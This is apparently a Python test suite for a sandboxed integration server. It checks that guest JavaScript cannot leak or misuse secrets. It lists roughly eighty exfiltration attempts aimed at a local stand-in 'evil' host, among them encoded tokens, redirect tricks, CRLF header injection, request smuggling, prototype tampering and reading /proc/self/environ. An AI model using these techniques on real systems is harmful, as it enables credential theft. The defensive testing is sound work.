"""A guest that tries to send a secret where it may not go, or to use one that is not its own, through a whole server:
two upstreams keep every byte that they receive, and the value is in nothing but the granted requests."""

from __future__ import annotations

import json
from collections.abc import AsyncIterator
from contextlib import AsyncExitStack
from typing import Any

import httpx
import pytest

from runtime.http.app import create_app
from runtime.services import open_services
from runtime.settings import Egress, Grant, Integrations, Loaded, Secret, Settings, token_set
from tests.runtime.egress.leaks import leaks
from tests.runtime.egress.upstream import Received, Upstream, reply, upstream
from tests.runtime.http.conftest import serving
from tests.server.conftest import LIMITS, github, recorder, write
from tests.server.integrations import TOKEN, integration

VALUE = "tok-9c41f7e0b2a8d6c4e1f3"
PLACED = "key-7f3a9c1e5b2d8f4a6c0e"
NARROW = "nar-2a8d6c4e1f3b9d5a7c"
OTHERS = "not-yours-5b2d8f4a6c0e77"
HOOK = "/services/T0001/B0002/abcdefghijklmnopqrstuvwx"
SESSION = "session-1e5b2d8f4a6c0e12"
HIDDEN = (VALUE, PLACED, NARROW, OTHERS, HOOK, SESSION)

GUEST = """
    const seen = [];
    const ask = async (url, options = {}) => {
        const response = await fetch(url, options);
        seen.push(response.status, response.url, JSON.stringify([...response.headers]), await response.text());
        return response;
    };
    const bearer = { headers: { Authorization: `Bearer ${secrets.TOKEN}` } };
    const post = (body, headers = {}) => ({ method: 'POST', body, headers });
    const json = (value) => post(JSON.stringify(value), { 'Content-Type': 'application/json' });
    const form = (text) => post(text, { 'Content-Type': 'application/x-www-form-urlencoded' });
    const escaped = (text, escape) => [...text].map((sign) => escape(sign.charCodeAt(0).toString(16))).join('');
    let result = null;
    try {
        WAY
    } catch (error) {
        seen.push(error.message);
    }
    console.log(seen.join(' '));
    return [{ type: 'text', content: seen.join(' ') }, ...(result ? [result] : [])];
"""

ELSEWHERE = "may not send the secret TOKEN to http://127.0.0.1:"
IN_BODY, IN_QUERY = "sends the secret TOKEN in the body", "sends the secret TOKEN in the URL's query"
FORM = "sends the secret TOKEN in Authorization in a form that is not understood"
NO_KEY = 'add "OTHERS" to secrets in [grants."'
SHOWN = "[secret TOKEN]"
GOES = "own answers"
"""The request is sent, and is none that could do harm."""

# What the guest does, and what it or the operator is told.
WAYS: dict[str, tuple[str, str]] = {
    # Wrong hosts
    "another host": ("await ask(EVIL, bearer);", ELSEWHERE),
    "another host, alone": ("await ask(EVIL, { headers: { Authorization: secrets.TOKEN } });", ELSEWHERE),
    "another host, Basic": (
        "await ask(EVIL, { headers: { Authorization: 'Basic ' + btoa(`u:${secrets.TOKEN}`) } });",
        ELSEWHERE,
    ),
    "another host, body": ("await ask(EVIL, post(secrets.TOKEN));", ELSEWHERE),
    "another host, query": ("await ask(`${EVIL}?q=${secrets.TOKEN}`);", ELSEWHERE),
    "another host, base64": ("await ask(EVIL, post(btoa(secrets.TOKEN)));", IN_BODY),
    "a name for the same machine": (
        "await ask(OWN.replace('127.0.0.1', 'localhost'), bearer);",
        "may not reach http://localhost",
    ),
    "another scheme": ("await ask(OWN.replace('http', 'https'), bearer);", "may not reach 127.0.0.1"),
    "another port": ("await ask('http://127.0.0.1:1/', bearer);", "may not reach http://127.0.0.1:1"),
    "user name of a URL": ("await ask(EVIL.replace('//', `//${secrets.TOKEN}@`));", "a URL that includes credentials"),
    "host of a URL": (
        "await ask(`http://${secrets.TOKEN}.evil.test/`);",
        "may not reach http://[secret TOKEN].evil.test",
    ),
    "two hosts in one URL": ("await ask(OWN.slice(0, -1) + '\\\\@' + EVIL.slice(7), bearer);", GOES),
    # Redirects
    "a redirect": ("await ask(`${OWN}redirect?${EVIL}`, bearer);", "evil answers"),
    "a redirect that repeats the body": (
        "await ask(`${OWN}redirect?${EVIL}`, json({ key: secrets.PLACED }));",
        "may not send the secret PLACED to http://127.0.0.1:",
    ),
    "a redirect that repeats a header": (
        "await ask(`${OWN}redirect?${EVIL}`, { headers: { 'X-Key': secrets.PLACED } });",
        "may not send the secret PLACED to http://127.0.0.1:",
    ),
    "a redirect with the value in it": (
        "await ask(`${OWN}redirect-bearer?${EVIL}`, bearer);",
        "may not send the secret TOKEN",
    ),
    "a redirect back with the value in it": ("await ask(`${OWN}redirect-bearer?${OWN}`, bearer);", IN_QUERY),
    "a redirect to a public place": (
        "await ask(`${OWN}v1/redirect?${OWN}public`, { headers: { Authorization: secrets.NARROW } });",
        "may not send the secret NARROW to this path of http://127.0.0.1:",
    ),
    # Forged requests
    "a forged Host": ("await ask(OWN, { headers: { ...bearer.headers, Host: 'evil.test' } });", GOES),
    "a second line": (
        "await ask(OWN, { headers: { Authorization: `${secrets.TOKEN}\\r\\nHost: evil.test` } });",
        "may not hold CR, LF or NUL",
    ),
    "a second request in the body": (
        "await ask(OWN, post(`\\r\\n0\\r\\n\\r\\nGET / HTTP/1.1\\r\\nAuthorization: ${secrets.TOKEN}\\r\\n\\r\\n`,"
        " { 'Transfer-Encoding': 'chunked', 'Content-Length': '0' }));",
        IN_BODY,
    ),
    "the proxy's header": ("await ask(OWN, { headers: { 'Proxy-Authorization': secrets.TOKEN } });", GOES),
    "the method": ("await ask(OWN, { method: secrets.TOKEN });", "the method"),
    "another method in a header": (
        "await ask(OWN, { headers: { ...bearer.headers, 'X-HTTP-Method-Override': 'DELETE' } });",
        "may not send DELETE",
    ),
    # Secrets that are not its own
    "the secret of another": ("await ask(OWN, { headers: { Authorization: secrets.OTHERS } });", NO_KEY),
    "the secret of another, elsewhere": ("await ask(OWN, post(secrets.OTHERS));", NO_KEY),
    "a secret that was not asked for": ("seen.push(`there is ${secrets.UNASKED}`);", "there is undefined"),
    "all secrets there are": ("seen.push(Object.keys(secrets).join());", "TOKEN,PLACED,NARROW,HOOK,OTHERS"),
    "the environment": ("seen.push(`env ${globalThis.process?.env?.INTEGRATION_OTHERS}`);", "env undefined"),
    "a file": ("require('fs').readFileSync('/proc/self/environ');", "fs"),
    "a made-up placeholder": ("await ask(OWN, { headers: { Authorization: 'skerry_' + 'a'.repeat(26) } });", GOES),
    "the placeholder of an earlier run": (
        "const kept = await cache.get('kept'); await cache.set('kept', secrets.TOKEN); seen.push(`kept ${kept}`);",
        "kept undefined",
    ),
    # Places in a request that nobody named
    "the path": ("await ask(`${OWN}${secrets.TOKEN}`);", "sends the secret TOKEN in the URL's path"),
    "the query": ("await ask(`${OWN}?q=${secrets.TOKEN}`);", 'write in = ["query:q"] in [secrets.TOKEN]'),
    "the query, percent": ("await ask(`${OWN}?q=${escaped(secrets.TOKEN, (hex) => '%' + hex)}`);", IN_QUERY),
    "the fragment, which stays here": ("await ask(`${OWN}#${secrets.TOKEN}`);", GOES),
    "a header": ("await ask(OWN, { headers: { 'X-Mine': secrets.TOKEN } });", 'write in = ["header:x-mine"]'),
    "a header's name": ("await ask(OWN, { headers: { [secrets.TOKEN]: '1' } });", "in the name of a header"),
    "a cookie": ("await ask(OWN, { headers: { Cookie: `a=${secrets.TOKEN}` } });", 'write in = ["cookie:a"]'),
    "the referrer": ("await ask(OWN, { headers: { Referer: `${OWN}?${secrets.TOKEN}` } });", "in the header referer"),
    "a public write, text": ("await ask(OWN, post(secrets.TOKEN));", IN_BODY),
    "a public write, JSON": (
        "await ask(OWN, json({ files: { 'a.txt': { content: secrets.TOKEN } } }));",
        'write in = ["json:/files/a.txt/content"] in [secrets.TOKEN]',
    ),
    "a public write, form": ("await ask(OWN, form(`text=${secrets.TOKEN}`));", 'write in = ["form:text"]'),
    "a public write, multipart": (
        "const headers = { 'Content-Type': 'multipart/form-data; boundary=b' };"
        "await ask(OWN, post(`--b\\r\\n\\r\\n${secrets.TOKEN}\\r\\n--b--`, headers));",
        IN_BODY,
    ),
    "a public write, bytes": ("await ask(OWN, post(new TextEncoder().encode('\\0\\0' + secrets.TOKEN)));", IN_BODY),
    "a public write, URL parameters": ("await ask(OWN, post(new URLSearchParams({ a: secrets.TOKEN })));", IN_BODY),
    **{f"base64 behind {n}": (f"await ask(OWN, post(btoa('{'x' * n}' + secrets.TOKEN)));", IN_BODY) for n in range(3)},
    "hex": ("await ask(OWN, post(escaped(secrets.TOKEN, (hex) => hex)));", IN_BODY),
    "JSON escapes": ("await ask(OWN, post(escaped(secrets.TOKEN, (hex) => '\\\\u00' + hex)));", IN_BODY),
    "capitals": ("await ask(OWN, post(secrets.TOKEN.toUpperCase()));", IN_BODY),
    "backwards, which is only text": ("await ask(EVIL, post([...secrets.TOKEN].reverse().join('')));", "evil answers"),
    "a longer word": ("await ask(OWN, { headers: { Authorization: `Bearer ${secrets.TOKEN}x` } });", FORM),
    "another scheme of Authorization": (
        "await ask(OWN, { headers: { Authorization: `Digest ${secrets.TOKEN}` } });",
        FORM,
    ),
    "twice": ("await ask(OWN, { headers: { Authorization: `${secrets.TOKEN} ${secrets.TOKEN}` } });", FORM),
    "two headers": (
        "await ask(OWN, { headers: [['Authorization', secrets.TOKEN], ['Authorization', secrets.TOKEN]] });",
        "Authorization",
    ),
    # A secret that names its places
    "another pointer": (
        "await ask(OWN, json({ note: secrets.PLACED }));",
        '"json:/key", "json:/note"] in [secrets.PLACED]',
    ),
    "another type of body": (
        "await ask(OWN, post(JSON.stringify({ key: secrets.PLACED })));",
        "Content-Type: application/json",
    ),
    "one name twice": (
        'await ask(OWN, post(`{"key":"${secrets.PLACED}","key":""}`, { \'Content-Type\': \'application/json\' }));',
        "it is put in only where its name stands once",
    ),
    "one parameter twice": (
        "await ask(`${OWN}?key=${secrets.PLACED}&key=`);",
        "it is put in only where its name stands once",
    ),
    "Authorization, which it does not name": (
        "await ask(OWN, { headers: { Authorization: secrets.PLACED } });",
        '"authorization"] in [secrets.PLACED]',
    ),
    # A secret that names a path
    "another path": ("await ask(`${OWN}public`, { headers: { Authorization: secrets.NARROW } });", "to this path of"),
    "a path that servers read differently": (
        "await ask(`${OWN}v1/..%2fpublic`, { headers: { Authorization: secrets.NARROW } });",
        "to this path of",
    ),
    # A URL that is secret
    "more behind a secret URL": (
        "await ask(secrets.HOOK + '../public', post('x'));",
        "adds something to the secret URL HOOK",
    ),
    "a query behind a secret URL": ("await ask(secrets.HOOK + '?a=1');", "adds something to the secret URL HOOK"),
    "a secret URL as text": ("await ask(OWN, post(secrets.HOOK));", "sends the secret URL HOOK in the body"),
    "a secret URL as text elsewhere": ("await ask(EVIL, post(secrets.HOOK));", "sends the secret URL HOOK in the body"),
    "what a secret URL answers": ("await ask(secrets.HOOK, post('x'));", "you called /"),
    "where a secret URL leads": ("await ask(secrets.HOOK + '', { headers: { 'X-Lead': 'more' } });", GOES),
    # What a server gives
    "the session of another host": (
        "const answer = await ask(`${OWN}login`);"
        "await ask(EVIL, { headers: { Cookie: answer.headers.getSetCookie()[0].split(';')[0] } });",
        "works there alone",
    ),
    "a session as text": (
        "const answer = await ask(`${OWN}login`); await ask(OWN, post(answer.headers.get('set-cookie')));",
        "sends the secret cookie sid of 127.0.0.1:",
    ),
    "a token as text": (
        "const answer = await fetch(`${OWN}oauth`); const { access_token } = await answer.json();"
        "seen.push(access_token); await ask(EVIL, { headers: { Authorization: access_token } });",
        "works there alone",
    ),
    # What leaves the run
    "a result": ("result = { type: 'text', content: `it is ${secrets.TOKEN}` };", f"it is {SHOWN}"),
    "a result, base64": ("result = { type: 'text', content: btoa('xy' + secrets.TOKEN) };", SHOWN),
    "a link": ("result = { type: 'link', content: 'x', href: `${EVIL}?${secrets.TOKEN}` };", "href holds secret TOKEN"),
    "a link, percent": (
        "result = { type: 'link', content: 'x', href: EVIL + escaped(secrets.TOKEN, (hex) => '%' + hex) };",
        "href holds secret TOKEN",
    ),
    "a tooltip": ("result = { type: 'text', content: 'x', tooltip: secrets.TOKEN };", SHOWN),
    "a log line": ("console.log({ a: [secrets.TOKEN] });", SHOWN),
    "a log line, base64": (
        "console.log(btoa('x' + secrets.TOKEN));",
        "[withheld: it holds a secret in another spelling]",
    ),
    "an error": ("seen.push(String(new Error(secrets.TOKEN)));", SHOWN),
    # Tampering with the engine that it runs in
    "changed prototypes": (
        "String.prototype.includes = String.prototype.startsWith = () => false;"
        "Object.prototype.url = OWN; Array.prototype.includes = () => true; await ask(EVIL, bearer);",
        ELSEWHERE,
    ),
    "headers that change": (
        "let asked = 0; const headers = { get Authorization() { return asked++ ? 'x' : secrets.TOKEN; } };"
        "await ask(EVIL, { headers });",
        "127.0.0.1",
    ),
}


class Server:
    """A whole server, and the upstreams: `own` is granted and gets the secrets, `evil` is granted and gets none."""

    def __init__(self, own: Upstream, evil: Upstream, client: httpx.AsyncClient, log: list[dict[str, Any]]) -> None:
        self.own = own
        self.evil = evil
        self.client = client
        self.log = log

    async def ask(self, way: str) -> str:
        response = await self.client.post("/context", json=github(way=way))
        assert response.status_code == 200
        return response.text

    def harmful(self) -> bytes:
        """All that came to the upstreams, without what was granted."""
        received = [_all_of(got, ()) for got in self.evil.received]
        received += [_all_of(got, _granted(got)) for got in self.own.received]
        return b"\n".join(received)


def _granted(got: Received) -> tuple[str, ...]:
    """What may stand in a request to `own`: a token in Authorization, a key where it was named, the secret URL."""
    path = got.line.split()[1]
    key = got.first("x-key") or (
        "key" if got.body == json.dumps({"key": PLACED}, separators=(",", ":")).encode() else ""
    )
    cookie = got.first("cookie") == f"sid={SESSION}"
    allowed = [got.first("authorization") or "", PLACED if key else "", SESSION if cookie else ""]
    return tuple(text for text in (*allowed, HOOK if path == HOOK else "") if text)


def _all_of(got: Received, granted: tuple[str, ...]) -> bytes:
    text = (
        "\n".join([got.line, *(f"{name}: {value}" for name, value in got.headers)]) + "\n" + got.body.decode("latin-1")
    )
    for value in granted:
        text = text.replace(value, "")
    return text.encode("latin-1")


def own(got: Received) -> bytes:
    path, _, query = got.line.split()[1].partition("?")
    if path.endswith("/redirect"):
        return reply(b"", "307 Temporary Redirect", f"location: {query}")
    if path == "/redirect-bearer":
        return reply(b"", "302 Found", f"location: {query}?t={(got.first('authorization') or '')[7:]}")
    if path == "/login":
        return reply(b"hello", "200 OK", f"set-cookie: sid={SESSION}; Secure")
    if path == "/oauth":
        return reply(json.dumps({"access_token": SESSION, "token_type": "bearer"}).encode())
    if path == HOOK and got.first("x-lead"):
        return reply(b"", "302 Found", "location: more")
    if path == HOOK:
        return reply(f"you called {HOOK}".encode())
    return reply(b"own answers")


def files(own: str, evil: str) -> dict[str, str]:
    """One integration for each way, in a file of its own; and two that have one name."""
    constants = f"const OWN = {json.dumps(own + '/')}, EVIL = {json.dumps(evil + '/')};"
    required = ["TOKEN", "PLACED", "NARROW", "HOOK", "OTHERS"]

    def file(name: str, javascript: str, way: str) -> str:
        body = GUEST.replace("WAY", javascript)
        conditions = {"page.way": {"equals": way}}
        return constants + integration(name, body, conditions=conditions, requiredSecrets=required, cache=0)

    found = {
        f"way{number}.integration.js": file(f"way-{number}", javascript, way)
        for number, (way, (javascript, _)) in enumerate(WAYS.items())
    }
    theft = "await ask(OWN, { headers: { Authorization: secrets.OTHERS } });"
    return {
        **found,
        "owner.integration.js": file("the-owner", theft, "a stolen name"),
        "a-thief.integration.js": file("the-owner", theft, "a stolen name"),
    }


@pytest.fixture(scope="module")
async def whole_server(tmp_path_factory: pytest.TempPathFactory) -> AsyncIterator[Server]:
    root = tmp_path_factory.mktemp("misuse")
    log: list[dict[str, Any]] = []
    async with AsyncExitStack() as stack:
        good = await stack.enter_async_context(upstream(own))
        evil = await stack.enter_async_context(upstream(lambda _: reply(b"evil answers")))
        at, elsewhere = (f"http://127.0.0.1:{server.port}" for server in (good, evil))
        write(root / "integrations", files(at, elsewhere))
        settings = Settings(
            integrations=Integrations(path=str(root / "integrations")),
            limits=LIMITS,
            grants={
                "*": Grant(
                    net=(f"GET,POST {at}", f"GET,POST {elsewhere}"), secrets=("TOKEN", "PLACED", "NARROW", "HOOK")
                ),
                "owner.integration.js": Grant(secrets=("OTHERS",)),
            },
            secrets={
                "TOKEN": Secret(hosts=(at,)),
                "PLACED": Secret(hosts=(at,), places=("header:x-key", "query:key", "json:/key")),
                "NARROW": Secret(hosts=(f"{at}/v1/",)),
                "HOOK": Secret(kind="url"),
                "OTHERS": Secret(hosts=(at,)),
                "UNASKED": Secret(hosts=(at,)),
            },
            egress=Egress(private=("127.0.0.1",)),
        )
        values = {"TOKEN": VALUE, "PLACED": PLACED, "NARROW": NARROW, "HOOK": at + HOOK, "OTHERS": OTHERS}
        environ = {"SKERRY_TOKEN": TOKEN, **{f"INTEGRATION_{name}": value for name, value in values.items()}}
        loaded = Loaded(settings, environ, (), None, ())
        services = await stack.enter_async_context(open_services(loaded, recorder(log)))
        app = create_app(
            dispatcher=services.dispatch, catalog=services, tokens=token_set(loaded), log=recorder(log), rate_limit=None
        )
        port = await stack.enter_async_context(serving(app))
        client = httpx.AsyncClient(
            base_url=f"http://127.0.0.1:{port}", headers={"Authorization": f"Bearer {TOKEN}"}, timeout=30
        )
        yield Server(good, evil, await stack.enter_async_context(client), log)


@pytest.fixture
def server(whole_server: Server) -> Server:
    for server in (whole_server.own, whole_server.evil):
        server.received.clear()
    whole_server.log.clear()
    return whole_server


def told_nothing(server: Server, answer: str) -> bool:
    shown = answer.encode() + json.dumps(server.log, default=str).encode() + server.harmful()
    return not any(leaks(shown, secret.encode()) for secret in HIDDEN)


@pytest.mark.parametrize("way", list(WAYS))
async def test_it_leaves_the_value_nowhere_outside_the_granted_requests(server: Server, way: str) -> None:
    answer = await server.ask(way)
    told = answer + json.dumps(server.log)
    assert json.dumps(WAYS[way][1])[1:-1] in told or WAYS[way][1] in told, answer
    assert told_nothing(server, answer)
    assert b"skerry_" not in b"".join(_all_of(got, ()) for got in server.evil.received)
    await server.ask(way)
    assert told_nothing(server, answer)


async def test_a_stolen_name_is_no_grant(server: Server) -> None:
    answer = await server.ask("a stolen name")
    assert f"{NO_KEY}a-thief.integration.js" in answer.replace("\\", "")
    assert not server.own.received
    assert told_nothing(server, answer)


async def test_what_is_granted_arrives(server: Server) -> None:
    await server.ask("a forged Host")
    (got,) = server.own.received
    assert got.first("authorization") == f"Bearer {VALUE}"
    assert got.first("host") == f"127.0.0.1:{server.own.port}"
    await server.ask("what a secret URL answers")
    assert server.own.received[-1].line == f"POST {HOOK} HTTP/1.1"
    assert not server.evil.received


async def test_there_are_at_least_40_ways() -> None:
    assert len(WAYS) >= 40


async def test_the_search_for_values_finds_one(server: Server) -> None:
    assert not told_nothing(server, f'{{"data": "{VALUE[:14]}"}}')
    await server.ask("a forged Host")
    server.evil.received += server.own.received
    assert not told_nothing(server, "")
